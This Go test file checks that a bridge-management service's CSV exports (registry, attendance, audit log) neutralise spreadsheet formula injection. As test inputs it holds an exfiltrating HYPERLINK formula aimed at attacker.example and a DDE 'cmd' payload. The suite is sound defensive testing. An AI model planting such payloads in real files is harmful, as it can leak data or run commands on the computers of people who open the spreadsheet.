package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"citybridge/controlplane"
)

// formulaLike is what a spreadsheet may run as a formula: a cell starting
// with = + - @ tab or CR that is not a plain number.
func formulaLike(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) &&
		!regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`).MatchString(cell)
}

// readSafeCSV parses a CSV download and fails the test on any cell a
// spreadsheet could run.
func readSafeCSV(t *testing.T, what string, body []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %d rows, %v:\n%s", what, len(rows), err, body)
	}
	bad := 0
	for i, r := range rows {
		for _, cell := range r {
			if formulaLike(cell) {
				if bad++; bad <= 3 {
					t.Errorf("%s, row %d: the cell %q is a formula to a spreadsheet", what, i+1, cell)
				}
			}
		}
	}
	if bad > 3 {
		t.Errorf("%s: %d such cells in all", what, bad)
	}
	return rows
}

// rowOf returns the first row whose column col is v.
func rowOf(t *testing.T, what string, rows [][]string, col int, v string) []string {
	t.Helper()
	for _, r := range rows {
		if len(r) > col && r[col] == v {
			return r
		}
	}
	t.Fatalf("%s: no row with %q", what, v)
	return nil
}

// TestCSVExportsNeutraliseFormulas: text that starts like a formula, put
// in by an administrator (a bridge's name, area, contact) or by anybody at
// all (the name of a failed login, as an earlier version logged it), comes
// out of every CSV export with a
// quote in front (the registry from the API and the command line, the
// attendance record, the audit log); the registry's export imports back
// to exactly the same registry.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	ts := startTestServer(t)
	if err := ts.store.SetPassword("admin", "csv-pass-1"); err != nil {
		t.Fatal(err)
	}
	// Without any credential: a login's name can no longer carry a
	// formula into the audit log (no login has such a name: 400, nothing
	// written), but a log written by an earlier version holds failed
	// logins under whatever name was typed. Such entries, stored as that
	// version stored them, must come out neutralised.
	evil := `=HYPERLINK("http://attacker.example/?"&A1,"open")`
	for _, name := range []string{evil, "\t=1+1"} {
		body, _ := json.Marshal(map[string]string{"name": name, "password": "nope"})
		if code, b := sameOrigin(t, ts, ts.client, "POST", "/api/login", "", string(body)); code != http.StatusBadRequest {
			t.Fatalf("a login named %q: %d %s, want 400", name, code, b)
		}
		if err := ts.store.Audit(controlplane.AuditEntry{Who: name, Action: "login", Result: "bad_login", Remote: "10.0.0.9"}); err != nil {
			t.Fatal(err)
		}
	}
	admin := cookieClient(ts)
	if code, b := sameOrigin(t, ts, admin, "POST", "/api/login", "", `{"name":"admin","password":"csv-pass-1"}`); code != http.StatusOK {
		t.Fatalf("login: %d %s", code, b)
	}
	want := controlplane.Bridge{ID: "ward-990", Name: "=1+1", Kind: controlplane.KindWard,
		Area: "@SUM(1+1)", Contact: "-2+3+cmd|' /C calc'!A0"}
	body, _ := json.Marshal(want)
	if code, b := sameOrigin(t, ts, admin, "POST", "/api/bridges", "", string(body)); code != http.StatusCreated {
		t.Fatalf("create bridge: %d %s", code, b)
	}

	// The registry, exported by a technician, then imported back.
	code, export := callAs(t, ts, "GET", "/api/bridges.csv", ts.demo.TechnicianToken)
	if code != http.StatusOK {
		t.Fatalf("GET /api/bridges.csv: %d", code)
	}
	row := rowOf(t, "registry", readSafeCSV(t, "registry", export), 0, want.ID)
	if !slices.Equal(row, []string{want.ID, "'" + want.Name, "ward", "'" + want.Area, "'" + want.Contact}) {
		t.Errorf("registry row %q", row)
	}
	before, _ := ts.store.Bridges()
	code, b := sameOrigin(t, ts, admin, "POST", "/api/bridges/import", "", string(export))
	var res controlplane.ImportResult
	_ = json.Unmarshal(b, &res)
	after, _ := ts.store.Bridges()
	if code != http.StatusOK || res.Added+res.Updated != 0 || res.Unchanged != len(before) || !slices.Equal(before, after) {
		t.Errorf("re-importing the export: %d %+v; registry unchanged: %v", code, res, slices.Equal(before, after))
	}

	// The same from the command line, on a stopped server's data.
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "a"), 0o700); err != nil {
		t.Fatal(err)
	}
	st, err := controlplane.Open(filepath.Join(dir, "a", "citybridge.db"))
	if err != nil {
		t.Fatal(err)
	}
	if err := st.PutBridges([]controlplane.Bridge{want}); err != nil {
		t.Fatal(err)
	}
	st.Close()
	file := filepath.Join(dir, "export.csv")
	var out, errOut bytes.Buffer
	if code := cli([]string{"bridges", "export", "--data", filepath.Join(dir, "a"), file}, func(string) string { return "" }, &out, &errOut); code != 0 {
		t.Fatalf("bridges export: %d %s", code, errOut.String())
	}
	cliExport, _ := os.ReadFile(file)
	readSafeCSV(t, "bridges export", cliExport)
	if code := cli([]string{"bridges", "import", "--data", filepath.Join(dir, "b"), file}, func(string) string { return "" }, &out, &errOut); code != 0 {
		t.Fatalf("bridges import: %d %s", code, errOut.String())
	}
	if st, err = controlplane.Open(filepath.Join(dir, "b", "citybridge.db")); err != nil {
		t.Fatal(err)
	}
	got, err := st.Bridge(want.ID)
	st.Close()
	if err != nil || got != want {
		t.Errorf("exported and imported with the command line: %+v, %v; want %+v", got, err, want)
	}

	// The attendance record, as the chair downloads it.
	conf := ts.demo.Conference.ID
	code, att := callAs(t, ts, "GET", "/api/conferences/"+conf+"/attendance?format=csv", ts.demo.HostToken)
	if code != http.StatusOK {
		t.Fatalf("attendance CSV: %d", code)
	}
	if row := rowOf(t, "attendance", readSafeCSV(t, "attendance", att), 0, want.ID); row[1] != "'"+want.Name {
		t.Errorf("attendance row %q", row)
	}

	// The audit log, with the failed logins' names.
	resp, err := admin.Get(ts.base + "/api/audit?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	var audit bytes.Buffer
	_, _ = audit.ReadFrom(resp.Body)
	resp.Body.Close()
	rows := readSafeCSV(t, "audit", audit.Bytes())
	rowOf(t, "audit", rows, 2, "'"+evil)
	rowOf(t, "audit", rows, 2, "'\t=1+1")
}
